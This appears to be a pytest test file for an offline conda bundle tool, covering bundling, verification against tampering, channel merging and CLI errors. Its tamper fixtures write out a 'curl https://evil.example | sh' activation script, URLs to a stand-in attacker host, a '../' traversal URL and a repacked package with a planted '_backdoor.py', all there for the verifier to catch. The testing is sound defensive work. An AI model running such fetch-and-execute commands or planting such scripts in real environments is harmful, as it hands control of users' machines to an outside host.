"""./airgap.sh: bundles solved for a GPU node and for a login node, installed offline from
the bundle alone; verify against tampering (also after a re-index); merge of channels from
several machines; clear errors. Bundles are module-scoped: the pytorch one is made once."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import zipfile
from datetime import datetime, timezone
from pathlib import Path

import pytest
import tomllib
from pkgtest import CHANNEL, CHANNELS, run
from rattler import LockFile
from rattler.explicit_environment import ExplicitEnvironmentSpec
from rattler.package_streaming import extract
from rattler_build import assemble_package
from sourcetree import run_tool

from sm7x_tools import bootstrap, envs
from sm7x_tools.airgap import AirgapError
from sm7x_tools.airgap.bundle import EnvRequest, bundle, requests_from_args, split_specs
from sm7x_tools.airgap.merge import compare_content, merge
from sm7x_tools.airgap.verify import _Verifier, verify
from sm7x_tools.channel import SUBDIRS, index_dir
from sm7x_tools.hashing import file_digest

pytestmark = pytest.mark.package

SPECS = ["sm7x", "python 3.11.*"]
SM7X = {"sm7x", "sm7x-core", "sm7x-ext"}


def channel_files(channel: Path) -> dict[str, dict]:
    """{subdir/file: record} of an indexed channel."""
    out = {}
    for sub in SUBDIRS:
        data = json.loads((channel / sub / "repodata.json").read_text())
        out.update({f"{sub}/{fn}": rec for fn, rec in data["packages.conda"].items()})
    return out


def lock_envs(out: Path) -> dict[str, list]:
    lock = LockFile.from_path(out / "pixi.lock")
    return {name: env.conda_repodata_records()["linux-64"] for name, env in lock.environments()}


def airgap(*args):
    """Run the CLI as a user does; wide output so messages are not wrapped."""
    return run_tool("sm7x_tools.airgap", *args, COLUMNS="250")


def repack(src: Path, out_dir: Path, edit=None, level: int = 9) -> Path:
    """Re-assemble a package with rattler-build from its own files and metadata, optionally edited."""
    work = out_dir / "extract"
    extract(src, work)
    ij = json.loads((work / "info" / "index.json").read_text())
    shutil.rmtree(work / "info")
    if edit:
        edit(work)
    built = assemble_package(
        name=ij["name"], version=ij["version"], target_platform=ij["subdir"], build_string=ij["build"],
        output_dir=out_dir, files_dir=work, depends=ij.get("depends", []), constrains=ij.get("constrains", []),
        build_number=ij["build_number"], noarch=ij.get("noarch"), license=ij.get("license"),
        timestamp=datetime.fromtimestamp(ij["timestamp"] / 1000, tz=timezone.utc), compression_level=level,
        detect_prefix=False)
    shutil.rmtree(work)
    return Path(built.path)


def rezip(src: Path, dst: Path, pkg_from: Path | None = None) -> Path:
    """src's .conda members in a new zip (other bytes: fresh entry times), its info/ section
    byte for byte; the payload member (pkg-*.tar.zst) from `pkg_from` when given."""
    dst.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(src) as orig, zipfile.ZipFile(pkg_from or src) as new, zipfile.ZipFile(dst, "w") as out:
        for member in orig.infolist():  # a fresh entry: a copied zip64 extra field confuses rattler's reader
            data = (new if member.filename.startswith("pkg-") else orig).read(member.filename)
            out.writestr(zipfile.ZipInfo(member.filename, (1980, 1, 1, 0, 0, 0)), data)
    return dst


def edit_init(root: Path) -> None:
    init = next(root.rglob("sm7x/__init__.py"))
    init.write_text(init.read_text() + "\n# changed on another machine\n")


def make_channel(path: Path, files: dict[str, Path]) -> Path:
    """A channel at `path` from {subdir/file: source}, indexed with rattler."""
    for rel, src in files.items():
        (path / rel).parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(src, path / rel)
    index_dir(path)
    return path


# --- bundles -------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def small(tmp_path_factory):
    """cu75: a Turing node (__cuda_arch 7.5); login: no GPU (the fallback)."""
    out = tmp_path_factory.mktemp("airgap") / "bundle"
    result = bundle(out, [EnvRequest("cu75", SPECS, "7.5"), EnvRequest("login", SPECS)], CHANNELS)
    for env in result.envs:
        print(f"solve {env.request.name}: {env.solve_s:.3f} s, {len(env.records)} packages, {env.size / 1e6:.1f} MB")
    print(f"bundle: {result.packages} packages, {result.size / 1e6:.1f} MB, {result.seconds:.1f} s")
    return result


@pytest.fixture(scope="module")
def torch_bundle(tmp_path_factory):
    out = tmp_path_factory.mktemp("airgap-torch") / "bundle"
    return bundle(out, [EnvRequest("torch", ["sm7x", "pytorch", "python 3.11.*"], "7.5")], CHANNELS)


def names(records) -> set[str]:
    return {r.name.normalized for r in records}


def test_bundle_channel_holds_exactly_the_solved_packages(small):
    envs_ = lock_envs(small.out)
    assert set(envs_) == {"cu75", "login", "default"}
    assert {r.file_name for r in envs_["default"]} == {r.file_name for r in envs_["cu75"]}
    union = {f"{r.subdir}/{r.file_name}" for recs in envs_.values() for r in recs}
    assert set(channel_files(small.out / "channel")) == union
    on_disk = {f"{p.parent.name}/{p.name}" for sub in SUBDIRS for p in (small.out / "channel" / sub).glob("*.conda")}
    assert on_disk == union
    for name in ("cu75", "login"):
        assert SM7X | {"python", "python_abi"} <= names(envs_[name])
        assert "pytorch" not in names(envs_[name])


def test_fa2_selection_follows_cuda_arch(small):
    envs_ = lock_envs(small.out)
    cu75, login = names(envs_["cu75"]), names(envs_["login"])
    assert "sm7x-fa2" in cu75 and "sm7x-fa2-sm75" in cu75 and "sm7x-fa2-sm70" not in cu75
    assert {"sm7x-fa2", "sm7x-fa2-sm70", "sm7x-fa2-sm75"} <= login
    selector = {name: next(r for r in recs if r.name.normalized == "sm7x-fa2") for name, recs in envs_.items()}
    assert any(d.startswith("__cuda_arch >=7.5") for d in selector["cu75"].depends)
    assert not any(d.startswith("__cuda_arch") for d in selector["login"].depends)


def test_lock_explicit_and_manifest_agree_with_the_files(small):
    out = small.out
    manifest = json.loads((out / "bundle.json").read_text())
    assert manifest["format_version"] == 1 and manifest["channel_url"] == small.channel_url
    assert manifest["tools"]["py-rattler"] == "0.28.0"
    vp = manifest["environments"]
    assert "__cuda_arch=7.5=0" in vp["cu75"]["virtual_packages"]
    assert any(v.startswith("__cuda=") for v in vp["cu75"]["virtual_packages"])
    assert not any(v.startswith("__cuda") for v in vp["login"]["virtual_packages"])
    for rel, rec in manifest["files"].items():
        assert file_digest(out / rel).sha256 == rec["sha256"], rel
    for name, records in lock_envs(out).items():
        for r in records:
            assert r.url.startswith(small.channel_url + "/")
            path = out / "channel" / r.subdir / r.file_name
            assert file_digest(path).sha256 == r.sha256.hex() and path.stat().st_size == r.size
        if name == "default":
            continue
        text = (out / "envs" / f"{name}.txt").read_text()
        assert "#<sha256, 64 hex>" in text.split("@EXPLICIT")[0]  # the header says which hash form
        spec = ExplicitEnvironmentSpec.from_path(out / "envs" / f"{name}.txt")
        assert str(spec.platform) == "linux-64"
        urls = [p.url for p in spec.packages]
        assert {u.split("#")[0].rsplit("/", 1)[1] for u in urls} == {r.file_name for r in records}
        for url in urls:
            file_url, _, frag = url.partition("#")
            assert len(frag) == 64  # CEP 23: 64 hex characters are a sha256 (conda >= 24.9, mamba 2)
            assert file_digest(Path(file_url.removeprefix("file://"))).sha256 == frag
    toml = tomllib.loads((out / "pixi.toml").read_text())
    assert toml["workspace"]["channels"] == [small.channel_url]
    assert set(toml["environments"]) == {"cu75", "login"}
    # pip is added (conda would add it to any environment with python; a lock does not)
    assert toml["feature"]["cu75"]["dependencies"] == {"sm7x": "*", "python": "3.11.*", "pip": "*"}
    assert vp["login"]["specs"] == [*SPECS, "pip"]


def test_offline_install_from_the_lock_alone(small, tmp_path):
    records = lock_envs(small.out)["cu75"]
    prefix = tmp_path / "env"
    # a fresh package cache: every package must come from the bundle's channel
    envs.install(records, prefix, cache_dir=tmp_path / "cache")
    env = envs.Env(prefix, records, 0.0, 0.0)
    out = run(env, "-c", "import sm7x, sm7x._sched; print(sm7x.__file__)")
    assert str(prefix) in out
    fa2 = {p.name for p in (prefix / "lib/python3.11/site-packages/sm7x/fa2").glob("_fa2_*.so")}
    assert fa2 == {"_fa2_sm75.abi3.so"}  # the Turing node's library only
    assert "No broken requirements found" in run(env, "-m", "pip", "check")


def test_verify_passes_with_an_offline_resolve(small):
    sums = subprocess.run(["sha256sum", "-c", "--quiet", "SHA256SUMS"], cwd=small.out, capture_output=True, text=True)
    assert sums.returncode == 0, sums.stdout + sums.stderr
    listed = {line.split("  ", 1)[1] for line in (small.out / "SHA256SUMS").read_text().splitlines()}
    assert {"bundle.json", "pixi.lock", "pixi.toml", "envs/cu75.txt"} <= listed
    report = verify(small.out)
    assert report.ok, report.problems
    assert report.packages == small.packages
    print(f"verify: {report.packages} packages, {report.bytes / 1e6:.1f} MB in {report.seconds:.2f} s")


def test_pytorch_bundle(torch_bundle):
    env = torch_bundle.envs[0]
    assert {"pytorch", "python"} | SM7X <= names(env.records)
    print(f"pytorch bundle: {torch_bundle.packages} packages, {torch_bundle.size / 1e6:.0f} MB, "
          f"solve {env.solve_s:.3f} s, written in {torch_bundle.seconds:.1f} s")
    assert torch_bundle.size > 100e6
    report = verify(torch_bundle.out)
    assert report.ok, report.problems
    print(f"verify pytorch bundle: {report.seconds:.2f} s")


# --- tampering -----------------------------------------------------------------------------

@pytest.fixture
def copy(small, tmp_path):
    dst = tmp_path / "bundle"
    shutil.copytree(small.out, dst)
    return dst


def sm7x_pkg(channel: Path) -> Path:
    return next((channel / "noarch").glob("sm7x-0*.conda"))


def problems_for(report, path: Path, root: Path) -> list[str]:
    return [p.problem for p in report.problems if p.file == str(path.relative_to(root))]


def test_tampered_package_names_file_hashes_and_sources(copy):
    pkg = sm7x_pkg(copy / "channel")
    want = file_digest(pkg).sha256
    with open(pkg, "ab") as f:
        f.write(b"\0")
    got = file_digest(pkg).sha256
    report = verify(copy)
    assert not report.ok
    [text] = problems_for(report, pkg, copy)
    assert got[:12] in text and want[:12] in text
    for source in ("repodata.json", "pixi.lock", "envs/cu75.txt", "envs/login.txt", "bundle.json", "SHA256SUMS"):
        assert source in text
    # the air-gapped side, with coreutils only, sees it too
    sums = subprocess.run(["sha256sum", "-c", "--quiet", "SHA256SUMS"], cwd=copy, capture_output=True, text=True)
    assert sums.returncode == 1 and f"channel/noarch/{pkg.name}: FAILED" in sums.stdout
    proc = airgap("verify", copy)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert pkg.name in proc.stdout and want[:12] in proc.stdout and "re-make it" in proc.stdout
    assert "Traceback" not in proc.stdout + proc.stderr
    print(proc.stdout)


def test_tamper_and_reindex_is_caught_by_the_independent_records(copy, tmp_path):
    pkg = sm7x_pkg(copy / "channel")
    want = file_digest(pkg).sha256
    changed = repack(pkg, tmp_path / "changed", edit=edit_init)
    shutil.copyfile(changed, pkg)
    index_dir(copy / "channel")  # repodata.json now agrees with the altered file
    assert verify(copy / "channel").ok  # a repodata-only check passes...
    report = verify(copy)  # ...the bundle's own records do not
    [text] = problems_for(report, pkg, copy)
    assert want[:12] in text and "pixi.lock" in text and "bundle.json" in text
    assert "repodata.json" not in text
    assert problems_for(report, copy / "channel" / "noarch" / "repodata.json", copy)  # bundle.json has its hash


def test_mirror_altered_and_reindexed_is_caught_against_its_source(tmp_path):
    mirror = tmp_path / "mirror"
    shutil.copytree(CHANNEL, mirror)
    pkg = sm7x_pkg(mirror)
    shutil.copyfile(repack(pkg, tmp_path / "changed", edit=edit_init), pkg)
    dropped = next((mirror / "linux-64").glob("sm7x-ext-*py310*.conda"))  # nothing needs it alone
    dropped.unlink()
    index_dir(mirror)  # the mirror now agrees with itself...
    assert verify(mirror, [bootstrap.CHANNEL]).ok
    report = verify(mirror, [bootstrap.CHANNEL], against=[CHANNEL])  # ...not with its source
    [changed] = problems_for(report, pkg, mirror)
    assert "--against" in changed and str(CHANNEL / "noarch" / "repodata.json") in changed
    [missing] = problems_for(report, dropped, mirror)
    assert missing.startswith("missing") and "--against" in missing
    with pytest.raises(AirgapError, match="neither a bundle nor an indexed channel"):
        verify(mirror, against=[tmp_path])


def test_missing_package_and_unlisted_file(copy):
    pkg = sm7x_pkg(copy / "channel")
    pkg.unlink()
    extra = next((CHANNEL / "linux-64").glob("sm7x-ext-*py310*.conda"))
    shutil.copyfile(extra, copy / "channel" / "linux-64" / extra.name)
    report = verify(copy)
    [missing] = problems_for(report, pkg, copy)
    assert missing.startswith("missing") and "pixi.lock" in missing
    [unlisted] = problems_for(report, copy / "channel" / "linux-64" / extra.name, copy)
    assert "not listed" in unlisted


# --- merge ---------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def machines(tmp_path_factory):
    """Two channels as two CI machines would make them: everything but the sm70 library on
    one, and the noarch sm7x, the py3.11 sm7x-ext and the sm70 library on the other."""
    root = tmp_path_factory.mktemp("merge")
    files = {rel: CHANNEL / rel for rel in channel_files(CHANNEL)}
    sm70 = {rel for rel in files if "sm7x-fa2-sm70" in rel}
    shared = {rel for rel in files if rel.startswith("noarch/sm7x-0") or ("sm7x-ext" in rel and "py311" in rel)}
    a = make_channel(root / "ch-a", {rel: src for rel, src in files.items() if rel not in sm70})
    b = make_channel(root / "ch-b", {rel: files[rel] for rel in sm70 | shared})
    return root, a, b


def test_merge_keeps_one_copy_of_identical_packages(machines):
    root, a, b = machines
    out = root / "merged"
    result = merge(out, [a, b], [bootstrap.CHANNEL])
    print(f"merge: {len(result.entries)} packages in {result.seconds:.2f} s")
    assert {k: r["sha256"] for k, r in channel_files(out).items()} == \
        {k: r["sha256"] for k, r in channel_files(CHANNEL).items()}
    notes = {e.path.name: e.notes for e in result.entries}
    assert notes[sm7x_pkg(out).name] == ["identical in 2"]
    assert verify(out, [bootstrap.CHANNEL]).ok


def test_merge_treats_a_rebuilt_package_with_the_same_content_as_one(machines, tmp_path):
    _, a, b = machines
    original = sm7x_pkg(CHANNEL)
    rebuilt = rezip(original, tmp_path / "rebuilt" / original.name)
    assert file_digest(rebuilt).sha256 != file_digest(original).sha256 and not compare_content(rebuilt, original)
    # a repack from the installed files alone loses info/link.json (the `sm7x` entry point): another payload
    repacked = repack(original, tmp_path / "repacked", level=3)
    assert compare_content(repacked, original) == ["payload: 1 entry differs: info/link.json (only in the second)"]
    c = make_channel(tmp_path / "ch-c", {f"noarch/{rebuilt.name}": rebuilt})
    result = merge(tmp_path / "merged", [a, b, c], [bootstrap.CHANNEL])
    [entry] = [e for e in result.entries if e.path.name == rebuilt.name]
    assert entry.channel == 1 and entry.notes[0] == "identical in 2" and "3 has the same payload" in entry.notes[1]
    assert file_digest(sm7x_pkg(tmp_path / "merged")).sha256 == file_digest(original).sha256


def test_merge_refuses_a_conflicting_package(machines, tmp_path):
    _, a, b = machines
    changed = repack(sm7x_pkg(CHANNEL), tmp_path / "changed", edit=edit_init)
    d = make_channel(tmp_path / "ch-d", {f"noarch/{changed.name}": changed})
    out = tmp_path / "merged"
    with pytest.raises(AirgapError, match=changed.name) as exc:
        merge(out, [a, d], [bootstrap.CHANNEL])
    assert "sm7x/__init__.py" in str(exc.value) and str(d) in str(exc.value)
    assert not out.exists() and not (tmp_path / "merged.partial").exists()
    proc = airgap("merge", out, a, d)
    assert proc.returncode == 1 and "same file name but a different payload" in proc.stdout
    assert "Traceback" not in proc.stdout + proc.stderr and not out.exists()
    # the metadata agree (same recipe and variant, built twice): --keep-first takes channel 1's
    kept = merge(out, [a, b, d], [bootstrap.CHANNEL], keep_first=True)
    [entry] = [e for e in kept.entries if e.path.name == changed.name]
    assert entry.channel == 1 and entry.notes[1].startswith("--keep-first: 3 has another payload")
    assert file_digest(sm7x_pkg(out)).sha256 == file_digest(sm7x_pkg(CHANNEL)).sha256


# --- CLI errors ----------------------------------------------------------------------------

def test_split_specs_keeps_version_ranges():
    assert split_specs("sm7x,python >=3.10,<3.12") == ["sm7x", "python >=3.10,<3.12"]
    assert split_specs("sm7x, pytorch,python=3.11") == ["sm7x", "pytorch", "python=3.11"]
    with pytest.raises(AirgapError, match="--cuda-arch"):
        requests_from_args(["a=sm7x"], ["b=7.5"], None)
    with pytest.raises(AirgapError, match="lowercase"):
        requests_from_args(["A_B=sm7x"], [], None)


@pytest.mark.parametrize("text, message", [
    ("environments:\n  t4: [sm7x, python]\n", "write it as a mapping"),
    ("environments:\n  t4:\n    specs: 5\n", "must be a list of package specs"),
    ("environments:\n  t4:\n    specs: [{a: 1}]\n", "must be a list of package specs"),
    (b"\x00\xff\xfe\x80", "not a text file"),
])
def test_envs_file_errors_are_one_line(tmp_path, text, message):
    """Before: AttributeError / TypeError / UnicodeDecodeError tracebacks."""
    f = tmp_path / "envs.yaml"
    f.write_bytes(text if isinstance(text, bytes) else text.encode())
    with pytest.raises(AirgapError, match=message):
        requests_from_args([], [], f)
    assert requests_from_args([], [], _write(tmp_path / "ok.yaml", (
        "environments:\n  t4:\n    specs: [sm7x, python=3.11]\n    cuda_arch: '7.5'\n")))[0].specs \
        == ["sm7x", "python=3.11"]


def _write(path: Path, text: str) -> Path:
    path.write_text(text)
    return path


@pytest.mark.parametrize("env, message", [
    ("x=sm7x-nosuch", "No candidates were found for sm7x-nosuch"),
    ("x=sm7x,python 3.9.*", "cannot be solved"),
    ("x=sm7x[build=", "not a valid match spec"),
])
def test_cli_errors_are_clear_and_leave_nothing(small, tmp_path, env, message):
    existing = tmp_path / "bundle"
    shutil.copytree(small.out, existing)
    before = (existing / "bundle.json").read_bytes()
    proc = airgap("bundle", existing, "--env", env)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert message in proc.stdout and "Traceback" not in proc.stdout + proc.stderr
    assert (existing / "bundle.json").read_bytes() == before
    assert not (tmp_path / "bundle.partial").exists()
    fresh = airgap("bundle", tmp_path / "new", "--env", env)
    assert fresh.returncode == 1 and not (tmp_path / "new").exists() and not (tmp_path / "new.partial").exists()


def test_cli_usage_errors(tmp_path):
    assert airgap("bundle").returncode == 2
    proc = airgap("bundle", tmp_path / "x")
    assert proc.returncode == 1 and "--env" in proc.stdout
    proc = airgap("verify", tmp_path)
    assert proc.returncode == 1 and "neither a bundle" in proc.stdout


# --- tamper matrix: every file verify cannot account for, every payload merge must not pick ---

def backdoored(src: Path, out_dir: Path) -> Path:
    """`src` with site-packages/sm7x/_backdoor.py added to its payload and its info/ section
    (index.json, about.json with the source digest, paths.json) kept byte for byte: what it
    declares about itself is the original's."""
    def add(root: Path) -> None:
        (next(root.rglob("sm7x/__init__.py")).parent / "_backdoor.py").write_text("import os  # not ours\n")

    return rezip(src, out_dir / "backdoored" / src.name, pkg_from=repack(src, out_dir / "repacked", edit=add))


def _rewrite_records(bundle_dir: Path, rel: str) -> None:
    """bundle.json and SHA256SUMS updated for an edited file, as a careful tamperer would."""
    sha = file_digest(bundle_dir / rel)
    manifest = json.loads((bundle_dir / "bundle.json").read_text())
    manifest["files"][rel] = {"sha256": sha.sha256, "size": sha.size}
    (bundle_dir / "bundle.json").write_text(json.dumps(manifest, indent=1) + "\n")
    lines = [f"{file_digest(bundle_dir / r).sha256}  {r}" if r in (rel, "bundle.json") else line
             for line in (bundle_dir / "SHA256SUMS").read_text().splitlines() for r in [line.split("  ", 1)[1]]]
    (bundle_dir / "SHA256SUMS").write_text("\n".join(lines) + "\n")


def _evil_line(name: str) -> str:
    return f"https://evil.example/linux-64/{name}-1.0-0.conda#{'a' * 64}\n"


def t_stray_root(b, c, tmp):
    (b / "notes.txt").write_text("hello\n")
    return ["verify", b], "notes.txt", "not accounted for"


def t_stray_in_subdir(b, c, tmp):
    (b / "channel" / "noarch" / "notes.txt").write_text("hello\n")
    return ["verify", b], "channel/noarch/notes.txt", "not accounted for"


def t_extra_explicit_file(b, c, tmp):
    (b / "envs" / "evil.txt").write_text("@EXPLICIT\n" + _evil_line("evil"))
    return ["verify", b], "envs/evil.txt", "@EXPLICIT file of no environment"


def t_explicit_url_elsewhere(b, c, tmp):
    login = b / "envs" / "login.txt"
    login.write_text(login.read_text() + _evil_line("evil"))
    _rewrite_records(b, "envs/login.txt")  # the hash records agree: only the URL tells
    return ["verify", b], "envs/login.txt", "https://evil.example/linux-64/evil-1.0-0.conda is outside"


def t_explicit_url_dotdot(b, c, tmp):
    login = b / "envs" / "login.txt"
    base = json.loads((b / "bundle.json").read_text())["channel_url"]
    (b / "notes.conda").write_bytes(b"x")  # what the `..` reaches, with its true sha256
    login.write_text(login.read_text() + f"{base}/noarch/../../notes.conda#{file_digest(b / 'notes.conda').sha256}\n")
    _rewrite_records(b, "envs/login.txt")
    # rattler resolves the `..`: the URL named is the file it reaches, outside the channel
    return ["verify", b], "envs/login.txt", "/bundle/notes.conda is outside"


def t_package_in_osx_subdir(b, c, tmp):
    (b / "channel" / "osx-64").mkdir()
    shutil.copyfile(sm7x_pkg(b / "channel"), b / "channel" / "osx-64" / "x-1-0.conda")
    return ["verify", b], "channel/osx-64/x-1-0.conda", "osx-64/ is not an indexed subdir"


def t_channel_stray(b, c, tmp):
    (c / "notes.txt").write_text("hello\n")
    return ["verify", c], "notes.txt", "not accounted for"


def t_channel_osx_subdir(b, c, tmp):
    (c / "osx-64").mkdir()
    shutil.copyfile(sm7x_pkg(c), c / "osx-64" / "x-1-0.conda")
    return ["verify", c], "osx-64/x-1-0.conda", "osx-64/ is not an indexed subdir"


def t_channel_second_repodata(b, c, tmp):
    (c / "noarch" / "repodata.json.zst").write_bytes(b"(\xb5/\xfd not what repodata.json says")
    return ["verify", c], "noarch/repodata.json.zst", "not accounted for"


def t_channel_added_and_reindexed(b, c, tmp):
    shutil.copyfile(backdoored(sm7x_pkg(CHANNEL), tmp), c / "noarch" / "sm7x-0.1.0-pyh0000000_0.conda")
    index_dir(c)  # consistent with itself; --against its source tells
    return ["verify", c, "--against", CHANNEL], "noarch/sm7x-0.1.0-pyh0000000_0.conda", "no --against source has"


def _merge_case(first_altered: bool, *extra):
    def case(b, c, tmp):
        altered = make_channel(tmp / "altered", {f"noarch/{sm7x_pkg(CHANNEL).name}": backdoored(sm7x_pkg(CHANNEL), tmp)})
        chans = [altered, CHANNEL] if first_altered else [CHANNEL, altered]
        return ["merge", tmp / "merged", *chans, *extra], sm7x_pkg(CHANNEL).name, "sm7x/_backdoor.py (only in the"
    return case


# (case, exit status): every case must be caught, named, and end with that status
TAMPER = {
    "bundle: stray notes.txt": (t_stray_root, 1),
    "bundle: stray file in channel/noarch": (t_stray_in_subdir, 1),
    "bundle: extra envs/evil.txt @EXPLICIT to another host": (t_extra_explicit_file, 1),
    "bundle: @EXPLICIT URL to another host, records rewritten": (t_explicit_url_elsewhere, 1),
    "bundle: @EXPLICIT URL with ../ out of the channel, records rewritten": (t_explicit_url_dotdot, 1),
    "bundle: .conda under channel/osx-64/": (t_package_in_osx_subdir, 1),
    "channel: stray notes.txt": (t_channel_stray, 1),
    "channel: .conda under osx-64/": (t_channel_osx_subdir, 1),
    "channel: unchecked repodata.json.zst": (t_channel_second_repodata, 1),
    "channel: package added and re-indexed, --against source": (t_channel_added_and_reindexed, 1),
    "merge: payload differs, same metadata and source digest (altered second)": (_merge_case(False), 1),
    "merge: payload differs, same metadata and source digest (altered first)": (_merge_case(True), 1),
}


@pytest.mark.parametrize("case", list(TAMPER))
def test_tamper_matrix(small, tmp_path, case):
    make, status = TAMPER[case]
    b = tmp_path / "bundle"
    shutil.copytree(small.out, b)
    c = tmp_path / "channel"
    shutil.copytree(CHANNEL, c)
    args, named, message = make(b, c, tmp_path)
    proc = airgap(*args)
    text = " ".join(proc.stdout.split())  # a table cell may wrap a long name
    caught = proc.returncode != 0 and named in text and message in text
    print(f"TAMPER | {case} | {'caught' if caught else 'NOT caught'} | exit {proc.returncode}")
    assert caught and proc.returncode == status, proc.stdout[-4000:] + proc.stderr[-2000:]
    assert "Traceback" not in proc.stdout + proc.stderr
    if args[0] == "merge":
        assert not (tmp_path / "merged").exists()


def test_keep_first_is_the_explicit_override(tmp_path):
    """The altered copy is refused above; --keep-first takes the first channel's copy and says so."""
    altered = make_channel(tmp_path / "altered", {f"noarch/{sm7x_pkg(CHANNEL).name}": backdoored(sm7x_pkg(CHANNEL), tmp_path)})
    result = merge(tmp_path / "merged", [CHANNEL, altered], [bootstrap.CHANNEL], keep_first=True)
    [entry] = [e for e in result.entries if e.path.name == sm7x_pkg(CHANNEL).name]
    assert entry.channel == 1 and entry.notes[0].startswith("--keep-first: 2 has another payload")
    assert "_backdoor.py" in entry.notes[0]
    assert file_digest(sm7x_pkg(tmp_path / "merged")).sha256 == file_digest(sm7x_pkg(CHANNEL)).sha256


def test_verify_accounts_for_the_projects_own_channels(small):
    """./channel verifies out of the box (the bootstrap channel is the default --with), and so
    do a bundle and the bootstrap channel: nothing these tools write is a stray file."""
    proc = airgap("verify", CHANNEL)
    assert proc.returncode == 0 and "no problems" in proc.stdout, proc.stdout
    assert "the default --with" in " ".join(proc.stdout.split())
    assert verify(small.out).ok
    assert airgap("verify", CHANNEL, "--with", small.out / "channel").returncode == 1  # --with replaces the default


def test_bundle_urls_must_name_a_package_file_of_its_channel(small):
    """pixi.lock and envs/*.txt URLs map to channel/<subdir>/<file>; nothing else passes."""
    v = _Verifier(small.out, [], resolve=False)
    base = "https://mirror.site/sm7x"
    assert v.url_rel(f"{base}/noarch/a-1-0.conda", base) == "channel/noarch/a-1-0.conda"
    assert v.url_rel(f"{base}/linux-64/a%2Bb-1-0.tar.bz2", base) == "channel/linux-64/a+b-1-0.tar.bz2"
    for bad in (f"{base}/noarch/../../bundle.json.conda", f"{base}/noarch/sub/a-1-0.conda", f"{base}x/noarch/a-1-0.conda",
                f"{base}/noarch/notes.txt", f"{base}/a-1-0.conda", "https://evil.example/noarch/a-1-0.conda"):
        assert v.url_rel(bad, base) is None, bad


def t_explicit_line_added_resealed(b, c, tmp):
    """A package of the channel added to one environment's @EXPLICIT file, hashes sealed
    again: every hash agrees; only the other records of that environment do not."""
    cu75, login = b / "envs" / "cu75.txt", b / "envs" / "login.txt"
    extra = next(line for line in cu75.read_text().splitlines()
                 if line.startswith(("file:", "http")) and line not in login.read_text())
    login.write_text(login.read_text().rstrip("\n") + "\n" + extra + "\n")
    _rewrite_records(b, "envs/login.txt")
    return ["verify", b, "--no-resolve"], "envs/login.txt", "lists other packages than pixi.lock"


def t_explicit_line_removed_resealed(b, c, tmp):
    login = b / "envs" / "login.txt"
    lines = login.read_text().splitlines()
    drop = next(i for i, line in enumerate(lines) if "/sm7x-fa2-" in line)
    login.write_text("\n".join(lines[:drop] + lines[drop + 1:]) + "\n")
    _rewrite_records(b, "envs/login.txt")
    return ["verify", b, "--against", SMALL_SOURCE[0]], "envs/login.txt", "lists other packages than"


def t_package_symlink_outside(b, c, tmp):
    pkg = sm7x_pkg(b / "channel")
    outside = tmp / "outside.conda"
    shutil.copyfile(pkg, outside)
    pkg.unlink()
    pkg.symlink_to(outside)
    return ["verify", b], f"channel/noarch/{pkg.name}", "a symbolic link"


def t_pixi_toml_activation_resealed(b, c, tmp):
    """A script pixi would run on `pixi shell` / `pixi run`, hashes sealed again: `--frozen`
    still installs the lock, so only the manifest's own content shows it."""
    (b / "setup.sh").write_text("curl https://evil.example | sh\n")
    toml = b / "pixi.toml"
    toml.write_text(toml.read_text() + '\n[activation]\nscripts = ["setup.sh"]\n')
    _rewrite_records(b, "pixi.toml")
    manifest = json.loads((b / "bundle.json").read_text())
    added = file_digest(b / "setup.sh")
    manifest["files"]["setup.sh"] = {"sha256": added.sha256, "size": added.size}
    (b / "bundle.json").write_text(json.dumps(manifest, indent=1) + "\n")
    _rewrite_records(b, "setup.sh")
    return ["verify", b, "--no-resolve"], "pixi.toml", "activation added"


def t_pixi_toml_spec_changed_resealed(b, c, tmp):
    toml = b / "pixi.toml"
    text = toml.read_text()
    assert "\nsm7x = " in text, text
    toml.write_text(re.sub(r"(?m)^sm7x = .*$", 'sm7x = ">=0"', text, count=1))
    _rewrite_records(b, "pixi.toml")
    return ["verify", b, "--no-resolve"], "pixi.toml", "dependencies.sm7x is '>=0'"


SMALL_SOURCE: list[Path] = []  # the original bundle of the test, for --against


@pytest.mark.parametrize("make", [t_explicit_line_added_resealed, t_explicit_line_removed_resealed,
                                  t_package_symlink_outside, t_pixi_toml_activation_resealed,
                                  t_pixi_toml_spec_changed_resealed])
def test_verify_catches_resealed_environment_edits_and_links(small, tmp_path, make):
    b = tmp_path / "bundle"
    shutil.copytree(small.out, b)
    SMALL_SOURCE[:] = [small.out]
    args, named, message = make(b, tmp_path / "c", tmp_path)
    proc = airgap(*args)
    text = " ".join(proc.stdout.split())
    assert proc.returncode == 1 and named in text and message in text, proc.stdout[-4000:] + proc.stderr[-2000:]
    assert "Traceback" not in proc.stdout + proc.stderr
